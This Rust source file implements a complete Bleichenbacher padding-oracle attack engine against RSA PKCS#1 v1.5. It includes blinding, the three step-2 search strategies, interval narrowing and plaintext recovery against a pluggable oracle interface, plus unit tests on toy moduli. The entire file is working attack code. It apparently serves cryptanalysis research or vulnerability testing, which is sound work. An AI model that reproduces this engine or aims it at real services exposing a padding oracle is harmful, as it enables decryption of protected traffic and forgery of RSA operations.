//! The Bleichenbacher search engine (§4.4): blinding, the three step-2
//! sub-strategies, interval narrowing, and the termination test.
//!
//! This is the core of a Bleichenbacher-style adaptive chosen-ciphertext
//! attack against RSA PKCS#1 v1.5. A sibling attack against the same
//! oracle-abstraction pattern — Pohlig-Hellman/CRT recovery from an
//! invalid-curve ECDHE oracle — is out of scope here; it would be a
//! separate engine reusing the `Oracle` trait, not a variant of this one.

use log::{debug, error, info, trace};
use num_bigint::BigInt;
use num_traits::{One, Zero};

use crate::bigint::{ceil_div, floor_div, mod_inverse};
use crate::builder::prepare;
use crate::config::EngineConfig;
use crate::error::{AttackError, CancelReason};
use crate::interval::{Interval, IntervalSet};
use crate::oracle::Oracle;
use crate::result::AttackOutcome;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Step {
    Blinding,
    Step2a,
    Step2b,
    Step2c,
    Step3,
    Done,
}

/// Drives the search loop described in §4.4 against a caller-supplied
/// `Oracle`.
pub struct AttackEngine<'a> {
    oracle: &'a dyn Oracle,
    config: EngineConfig,
    n: BigInt,
    e: BigInt,
    k: usize,
    b: BigInt,
    c: BigInt,
    c0: BigInt,
    s0: BigInt,
    s: BigInt,
    m: IntervalSet,
    iteration: u64,
    state: Step,
    cancel: Option<Box<dyn Fn() -> bool + 'a>>,
}

impl<'a> AttackEngine<'a> {
    /// Construct a new attack against `oracle` for the given ciphertext.
    /// `msg_is_pkcs` skips blinding (§ "Initialization") when the caller
    /// already knows the target decrypts to a conformant plaintext.
    pub fn new(
        ciphertext_bytes: &[u8],
        n: BigInt,
        e: BigInt,
        k: usize,
        msg_is_pkcs: bool,
        oracle: &'a dyn Oracle,
        config: EngineConfig,
    ) -> Result<Self, AttackError> {
        let c = BigInt::from_bytes_be(num_bigint::Sign::Plus, ciphertext_bytes);
        if c >= n || c.sign() == num_bigint::Sign::Minus {
            return Err(AttackError::CiphertextOutOfRange);
        }

        // k must be the smallest byte length with 256^k >= n (§3); anything
        // else (including k < 2, which would underflow the B computation
        // below) is a construction-time error, not something to discover
        // later via a corrupted B.
        let required_k = ((n.bits() + 7) / 8) as usize;
        if k < 2 || k != required_k {
            error!("block size k={k} inconsistent with modulus bit length {} (expected k={required_k})", n.bits());
            return Err(AttackError::InputTooLarge {
                expected_bytes: required_k,
                actual_bytes: k,
            });
        }

        let two = BigInt::from(2u8);
        let b = two.pow(8 * (k as u32 - 2));

        let (s0, c0, m) = if msg_is_pkcs {
            let two_b = &two * &b;
            let three_b_minus_1 = BigInt::from(3u8) * &b - BigInt::one();
            (
                BigInt::one(),
                c.clone(),
                IntervalSet::singleton(two_b, three_b_minus_1),
            )
        } else {
            (BigInt::zero(), BigInt::zero(), IntervalSet::new())
        };

        info!("engine constructed: k={k} bytes, msg_is_pkcs={msg_is_pkcs}");

        Ok(Self {
            oracle,
            config,
            n,
            e,
            k,
            b,
            c,
            c0,
            s0,
            s: BigInt::zero(),
            m,
            iteration: 1,
            state: if msg_is_pkcs { Step::Step2a } else { Step::Blinding },
            cancel: None,
        })
    }

    /// Install a cooperative cancellation check, consulted before each
    /// oracle query and after each step boundary (§5).
    pub fn with_cancellation(mut self, cancel: impl Fn() -> bool + 'a) -> Self {
        self.cancel = Some(Box::new(cancel));
        self
    }

    /// Run the search loop to completion.
    pub fn run(&mut self) -> Result<AttackOutcome, AttackError> {
        match self.run_inner() {
            Ok(outcome) => Ok(outcome),
            Err(e) => {
                error!("attack terminated without a solution: {e}");
                Err(e)
            }
        }
    }

    fn run_inner(&mut self) -> Result<AttackOutcome, AttackError> {
        loop {
            self.check_cancellation()?;
            match self.state {
                Step::Blinding => self.step1()?,
                Step::Step2a => self.step2a()?,
                Step::Step2b => self.step2b()?,
                Step::Step2c => self.step2c()?,
                Step::Step3 => self.step3()?,
                Step::Done => {
                    let a = self.m.as_singleton().expect("Done implies a singleton");
                    let s0_inv = mod_inverse(&self.s0, &self.n)?;
                    let solution = (&a * &s0_inv) % &self.n;
                    let outcome = AttackOutcome::new(
                        solution,
                        self.s0.clone(),
                        self.iteration,
                        self.oracle.query_count(),
                    );
                    info!(
                        "attack succeeded after {} iterations, {} oracle queries",
                        outcome.iterations, outcome.oracle_queries
                    );
                    return Ok(outcome);
                }
            }
            self.check_cancellation()?;
        }
    }

    fn check_cancellation(&self) -> Result<(), AttackError> {
        if let Some(max) = self.config.max_queries {
            if self.oracle.query_count() >= max {
                return Err(AttackError::Cancelled {
                    reason: CancelReason::QueryBudgetExhausted,
                    iterations: self.iteration,
                    oracle_queries: self.oracle.query_count(),
                });
            }
        }
        if let Some(cancel) = &self.cancel {
            if cancel() {
                return Err(AttackError::Cancelled {
                    reason: CancelReason::Requested,
                    iterations: self.iteration,
                    oracle_queries: self.oracle.query_count(),
                });
            }
        }
        Ok(())
    }

    /// `try_si`: does the current `self.s` make `c0 * s` (or `c0 * s^e`
    /// for a ciphertext oracle) conformant?
    fn try_si(&mut self) -> Result<bool, AttackError> {
        self.check_cancellation()?;
        let bytes = prepare(self.oracle, &self.c0, &self.s)?;
        trace!("probing s = {}, prepared bytes = {:02x?}", self.s, bytes);
        Ok(self.oracle.check_conformant(&bytes)?)
    }

    /// Step 1: blind `c` with the smallest `s >= 1` that makes it
    /// conformant.
    fn step1(&mut self) -> Result<(), AttackError> {
        info!("step 1: blinding");
        let mut s = BigInt::one();
        loop {
            self.check_cancellation()?;
            let bytes = prepare(self.oracle, &self.c, &s)?;
            if self.oracle.check_conformant(&bytes)? {
                break;
            }
            s += 1u8;
        }
        self.s0 = s.clone();
        self.c0 = BigInt::from_bytes_be(
            num_bigint::Sign::Plus,
            &prepare(self.oracle, &self.c, &s)?,
        );
        debug!("blinding found s0 = {}", self.s0);

        let two_b = BigInt::from(2u8) * &self.b;
        let three_b_minus_1 = BigInt::from(3u8) * &self.b - BigInt::one();
        self.m = IntervalSet::singleton(two_b, three_b_minus_1);
        self.state = Step::Step2a;
        Ok(())
    }

    /// Step 2a: first iteration, start from `ceil(n / 3B)`.
    fn step2a(&mut self) -> Result<(), AttackError> {
        info!("step 2a: searching for initial conformant s");
        let three_b = BigInt::from(3u8) * &self.b;
        self.s = ceil_div(&self.n, &three_b);
        while !self.try_si()? {
            self.s += 1u8;
        }
        debug!("step 2a found s = {}", self.s);
        self.state = Step::Step3;
        Ok(())
    }

    /// Step 2b: `|M_i| >= 2`, continue incrementing from the last `s`.
    fn step2b(&mut self) -> Result<(), AttackError> {
        info!("step 2b: continuing search, |M| = {}", self.m.len());
        self.s += 1u8;
        while !self.try_si()? {
            self.s += 1u8;
        }
        debug!("step 2b found s = {}", self.s);
        self.state = Step::Step3;
        Ok(())
    }

    /// Step 2c: `|M_i| == 1`, search over `(r, s)` pairs.
    fn step2c(&mut self) -> Result<(), AttackError> {
        info!("step 2c: single-interval search");
        let intervals = self.m.intervals();
        let Interval { lo: a, hi: b } = intervals[0].clone();

        // The factor of 2 here is preserved verbatim from the reference
        // derivation; it's a convergence heuristic, not a correctness
        // requirement, since the loop below re-expands the (r, s) window
        // whenever it's exhausted.
        let mut r = ceil_div(&(BigInt::from(2u8) * (&b * &self.s - BigInt::from(2u8) * &self.b)), &self.n);

        loop {
            let two_b = BigInt::from(2u8) * &self.b;
            let three_b_minus_1 = BigInt::from(3u8) * &self.b - BigInt::one();
            let lo_s = ceil_div(&(&two_b + &r * &self.n), &b);
            let hi_s = floor_div(&(&three_b_minus_1 + &r * &self.n), &a);

            self.s = lo_s;
            while self.s <= hi_s {
                if self.try_si()? {
                    debug!("step 2c found s = {} (r = {})", self.s, r);
                    self.state = Step::Step3;
                    return Ok(());
                }
                self.s += 1u8;
            }
            r += 1u8;
        }
    }

    /// Step 3: narrow `M_i` into `M_{i+1}` using the just-found `s_i`.
    fn step3(&mut self) -> Result<(), AttackError> {
        info!("step 3: narrowing intervals");
        let mut next = IntervalSet::new();
        let two_b = BigInt::from(2u8) * &self.b;
        let three_b_minus_1 = BigInt::from(3u8) * &self.b - BigInt::one();

        for Interval { lo: a, hi: b } in self.m.intervals() {
            let r_lo = floor_div(&(&a * &self.s - &three_b_minus_1), &self.n);
            let r_hi = ceil_div(&(&b * &self.s - &two_b), &self.n);

            let mut r = r_lo;
            while r <= r_hi {
                let new_lo = ceil_div(&(&two_b + &r * &self.n), &self.s).max(a.clone());
                let new_hi = floor_div(&(&three_b_minus_1 + &r * &self.n), &self.s).min(b.clone());
                if new_lo <= new_hi {
                    next.insert(Interval::new(new_lo, new_hi));
                }
                r += 1u8;
            }
        }

        if next.is_empty() {
            error!(
                "step 3 narrowing produced no candidate intervals from {} source interval(s)",
                self.m.len()
            );
            return Err(AttackError::NoCandidates);
        }

        debug!("|M_{}| = {}", self.iteration + 1, next.len());
        self.m = next;

        // i only advances when step 4 does *not* terminate the search, so
        // that a first-iteration collapse is reported as i = 1.
        self.state = match self.m.as_singleton() {
            Some(_) => Step::Done,
            None if self.m.len() == 1 => {
                self.iteration += 1;
                Step::Step2c
            }
            None => {
                self.iteration += 1;
                Step::Step2b
            }
        };
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::oracle::PlaintextOracle;
    use num_traits::FromPrimitive;

    /// Scenario 1: tiny plaintext oracle, n = 77, e = 17, k = 2, B = 1,
    /// conformant set [2, 2]. `msg_is_pkcs = true` should terminate in
    /// one iteration with the target plaintext itself.
    #[test]
    fn tiny_plaintext_oracle_pkcs_shortcut() {
        let n = BigInt::from_u32(77).unwrap();
        let e = BigInt::from_u32(17).unwrap();
        let oracle = PlaintextOracle::new(n.clone(), e.clone(), 2);

        let m_star = BigInt::from_u32(2).unwrap();
        let bytes = m_star.to_bytes_be().1;
        let mut padded = vec![0u8; 2 - bytes.len()];
        padded.extend_from_slice(&bytes);

        let mut engine = AttackEngine::new(&padded, n, e, 2, true, &oracle, EngineConfig::default())
            .unwrap();
        let outcome = engine.run().unwrap();

        assert_eq!(outcome.solution_int, m_star);
        assert_eq!(outcome.iterations, 1);
        assert_eq!(outcome.s0, BigInt::one());
    }

    #[test]
    fn oracle_error_propagates() {
        struct FailingOracle {
            inner: PlaintextOracle,
            fail_at: u64,
        }
        impl Oracle for FailingOracle {
            fn public_key(&self) -> &crate::oracle::PublicKey {
                self.inner.public_key()
            }
            fn block_size(&self) -> usize {
                self.inner.block_size()
            }
            fn is_plaintext_oracle(&self) -> bool {
                self.inner.is_plaintext_oracle()
            }
            fn check_conformant(&self, bytes: &[u8]) -> Result<bool, crate::error::OracleError> {
                if self.inner.query_count() + 1 == self.fail_at {
                    let _ = self.inner.check_conformant(bytes);
                    return Err(crate::error::OracleError::Io("simulated failure".into()));
                }
                self.inner.check_conformant(bytes)
            }
            fn query_count(&self) -> u64 {
                self.inner.query_count()
            }
        }

        let n = BigInt::from_u32(77).unwrap();
        let e = BigInt::from_u32(17).unwrap();
        let oracle = FailingOracle {
            inner: PlaintextOracle::new(n.clone(), e.clone(), 2),
            fail_at: 10,
        };

        let c = BigInt::from_u32(5).unwrap();
        let bytes = c.to_bytes_be().1;
        let mut padded = vec![0u8; 2 - bytes.len()];
        padded.extend_from_slice(&bytes);

        let mut engine =
            AttackEngine::new(&padded, n, e, 2, false, &oracle, EngineConfig::default()).unwrap();
        let err = engine.run().unwrap_err();
        assert!(matches!(err, AttackError::Oracle(_)));
        assert_eq!(oracle.query_count(), 10);
    }

    #[test]
    fn cancellation_via_query_budget() {
        let n = BigInt::from_u32(77).unwrap();
        let e = BigInt::from_u32(17).unwrap();
        let oracle = PlaintextOracle::new(n.clone(), e.clone(), 2);

        let c = BigInt::from_u32(5).unwrap();
        let bytes = c.to_bytes_be().1;
        let mut padded = vec![0u8; 2 - bytes.len()];
        padded.extend_from_slice(&bytes);

        let mut engine = AttackEngine::new(
            &padded,
            n,
            e,
            2,
            false,
            &oracle,
            EngineConfig::with_max_queries(50),
        )
        .unwrap();
        let err = engine.run().unwrap_err();
        match err {
            AttackError::Cancelled {
                reason: CancelReason::QueryBudgetExhausted,
                oracle_queries,
                ..
            } => assert_eq!(oracle_queries, 50),
            other => panic!("expected Cancelled, got {other:?}"),
        }
    }

    #[test]
    fn rejects_ciphertext_not_smaller_than_modulus() {
        let n = BigInt::from_u32(77).unwrap();
        let e = BigInt::from_u32(17).unwrap();
        let oracle = PlaintextOracle::new(n.clone(), e.clone(), 2);
        let bytes = [0u8, 77];
        let err = AttackEngine::new(&bytes, n, e, 2, false, &oracle, EngineConfig::default())
            .unwrap_err();
        assert!(matches!(err, AttackError::CiphertextOutOfRange));
    }

    #[test]
    fn rejects_block_size_inconsistent_with_modulus() {
        // n needs 2 bytes (bits() == 9 here), so k = 2 is required; k = 5
        // must be rejected at construction rather than underflowing B.
        let n = BigInt::from_u32(300).unwrap();
        let e = BigInt::from_u32(17).unwrap();
        let oracle = PlaintextOracle::new(n.clone(), e.clone(), 5);
        let bytes = [0u8, 0u8, 0u8, 0u8, 5u8];
        let err = AttackEngine::new(&bytes, n, e, 5, false, &oracle, EngineConfig::default())
            .unwrap_err();
        assert!(matches!(err, AttackError::InputTooLarge { .. }));
    }

    /// Scenario 2: small RSA modulus, full plaintext recovery. Slow enough
    /// (a few hundred oracle queries) that it's skipped by default.
    #[test]
    #[ignore = "slow"]
    fn small_rsa_full_recovery_low_hundreds_of_queries() {
        let n = BigInt::from_u64(1_000_000_000_000_000_003).unwrap();
        let e = BigInt::from_u32(65537).unwrap();
        let oracle = PlaintextOracle::new(n.clone(), e.clone(), 8);

        // Sits inside [2B, 3B-1] for k=8 (B = 2^48), so it's conformant and
        // `msg_is_pkcs = true` applies.
        let m_star = BigInt::from_u64(600_000_000_000_000).unwrap();
        let bytes = m_star.to_bytes_be().1;
        let mut padded = vec![0u8; 8 - bytes.len()];
        padded.extend_from_slice(&bytes);

        let mut engine = AttackEngine::new(&padded, n, e, 8, true, &oracle, EngineConfig::default())
            .unwrap();
        let outcome = engine.run().unwrap();

        assert_eq!(outcome.solution_int, m_star);
        assert!(
            outcome.oracle_queries < 1000,
            "expected low hundreds of oracle queries, got {}",
            outcome.oracle_queries
        );
    }

    /// Scenario 3: the starting ciphertext is a random value, not
    /// necessarily conformant, so blinding (step 1) must run and find some
    /// s0 >= 1 before the search proper begins.
    #[test]
    fn blinding_required_for_non_conformant_start() {
        use num_bigint::RandBigInt;
        use num_integer::Integer;
        use rand::thread_rng;

        let n = BigInt::from_u32(77).unwrap();
        let e = BigInt::from_u32(17).unwrap();
        let oracle = PlaintextOracle::new(n.clone(), e.clone(), 2);

        let mut rng = thread_rng();
        let c = loop {
            let candidate = rng.gen_bigint_range(&BigInt::one(), &n);
            if candidate.gcd(&n) != BigInt::one() {
                continue;
            }
            let bytes = candidate.to_bytes_be().1;
            let mut padded = vec![0u8; 2 - bytes.len()];
            padded.extend_from_slice(&bytes);
            if !oracle.check_conformant(&padded).unwrap() {
                break candidate;
            }
        };

        let bytes = c.to_bytes_be().1;
        let mut padded = vec![0u8; 2 - bytes.len()];
        padded.extend_from_slice(&bytes);

        let mut engine =
            AttackEngine::new(&padded, n, e, 2, false, &oracle, EngineConfig::default()).unwrap();
        let outcome = engine.run().unwrap();

        assert!(outcome.s0 >= BigInt::one());

        let c0_bytes = prepare(&oracle, &engine.c, &engine.s0).unwrap();
        assert!(oracle.check_conformant(&c0_bytes).unwrap());
    }

    /// Scenario 6: step 3 narrows down to two disjoint intervals. The next
    /// iteration must use the step 2b "keep incrementing s" strategy, not
    /// step 2c's (r, s) search, which only applies to a single interval.
    #[test]
    fn two_interval_narrowing_selects_step_2b() {
        let n = BigInt::from_u32(100_000).unwrap();
        let e = BigInt::from_u32(17).unwrap();
        let oracle = PlaintextOracle::new(n.clone(), e.clone(), 3);

        let mut m = IntervalSet::new();
        m.insert(Interval::new(
            BigInt::from_u32(600).unwrap(),
            BigInt::from_u32(650).unwrap(),
        ));
        m.insert(Interval::new(
            BigInt::from_u32(700).unwrap(),
            BigInt::from_u32(750).unwrap(),
        ));
        assert_eq!(m.len(), 2);

        let mut engine = AttackEngine {
            oracle: &oracle,
            config: EngineConfig::default(),
            n: n.clone(),
            e,
            k: 3,
            b: BigInt::from_u32(256).unwrap(),
            c: BigInt::zero(),
            c0: BigInt::zero(),
            s0: BigInt::one(),
            s: BigInt::one(),
            m,
            iteration: 1,
            state: Step::Step2b,
            cancel: None,
        };

        engine.step3().unwrap();

        assert_eq!(engine.m.len(), 2);
        assert_eq!(engine.state, Step::Step2b);
        assert_eq!(engine.iteration, 2);
    }
}
